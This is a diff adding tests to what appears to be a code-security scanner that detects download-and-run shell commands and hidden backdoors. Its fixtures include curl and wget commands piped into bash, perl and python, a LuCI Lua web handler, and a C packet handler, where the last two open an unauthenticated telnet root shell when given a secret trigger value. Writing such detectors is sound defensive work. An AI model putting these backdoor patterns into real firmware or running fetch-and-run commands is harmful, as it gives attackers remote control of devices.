@@ -182,3 +182,57 @@ def test_header_constant_compared_without_a_sink_is_quiet(tmp_path):
 
     run = analyse_directory(_header_tree(tmp_path, with_sink=False))
     assert [f for f in run.findings if f.severity.rank >= 3] == []
+
+
+def test_download_piped_into_an_interpreter_one_liner_is_a_filter_not_a_fetch_and_run():
+    kinds = lambda cmd: [s.kind for s in shell_steps(cmd)]  # noqa: E731
+    assert kinds("curl -s https://releases.example/list | perl -lne 'print $1 if /v(\\d+)/'") == []
+    assert kinds("curl -s https://releases.example/x | sh -c 'cat > /dev/null'") == []
+    assert kinds("curl -s https://releases.example/x | perl") == ["fetch-exec"]
+    assert kinds("wget -qO- https://releases.example/i | bash -s -- --quiet") == ["fetch-exec"]
+    assert kinds("curl -fsSL https://releases.example/i.py | python3 -") == ["fetch-exec"]
+
+
+_LUCI_CONTROLLER = """module("luci.controller.admin.tools", package.seeall)
+
+local http = require "luci.http"
+local sys = require "luci.sys"
+
+function index()
+    entry({"admin", "system", "tools"}, call("action_tools"), _("Tools"), 80)
+end
+
+function action_tools()
+    local hint = http.formvalue("diag_mode")
+    if hint == "quartz-heron-58" then
+        sys.call("telnetd -l /bin/ash -p 4411 &")
+    end
+    http.prepare_content("application/json")
+    http.write_json({ uptime = sys.uptime() })
+end
+"""
+
+
+def test_lua_web_handler_gated_remote_shell():
+    hits = [f for f in findings("usr/lib/lua/luci/controller/admin/tools.lua", "lua", _LUCI_CONTROLLER)
+            if f.rule == "source.magic-input-command"]
+    assert hits and hits[0].line == 12 and hits[0].evidence["trigger"] == "quartz-heron-58"
+
+
+def test_lua_ordinary_settings_branch_is_quiet():
+    clean = _LUCI_CONTROLLER.replace('if hint == "quartz-heron-58" then', 'if hint == "quartz-heron-58" then\n        hint = nil') \
+        .replace('sys.call("telnetd -l /bin/ash -p 4411 &")', 'sys.call("/etc/init.d/firewall reload")')
+    assert [f for f in findings("usr/lib/lua/luci/controller/admin/tools.lua", "lua", clean) if f.severity.rank >= 3] == []
+
+
+def test_literal_command_that_serves_a_shell_is_a_strong_sink_in_c():
+    src = """#include <string.h>
+#include <stdlib.h>
+int on_packet(const char *buf) {
+    if (strncmp(buf, "kv9!Wq", 6) == 0)
+        system("/usr/sbin/utelnetd -l /bin/sh -p 6023 &");
+    return 0;
+}
+"""
+    hits = [f for f in findings("src/pkt.c", "c", src) if f.rule == "source.magic-input-command"]
+    assert hits and hits[0].evidence["trigger"] == "kv9!Wq"
